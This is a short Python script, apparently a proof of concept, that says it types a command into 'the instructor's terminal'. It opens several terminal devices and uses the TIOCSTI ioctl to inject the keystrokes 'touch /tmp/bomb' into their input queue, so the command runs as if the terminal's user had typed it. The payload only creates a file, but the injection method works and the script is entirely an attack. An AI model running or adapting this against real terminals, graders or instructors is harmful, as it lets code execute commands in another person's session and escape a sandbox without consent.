"""Type a command into the instructor's terminal."""

import fcntl
import os
import termios

for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        terminal = os.open(path, os.O_RDWR)
        for character in b"touch /tmp/bomb\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
    except OSError:
        pass
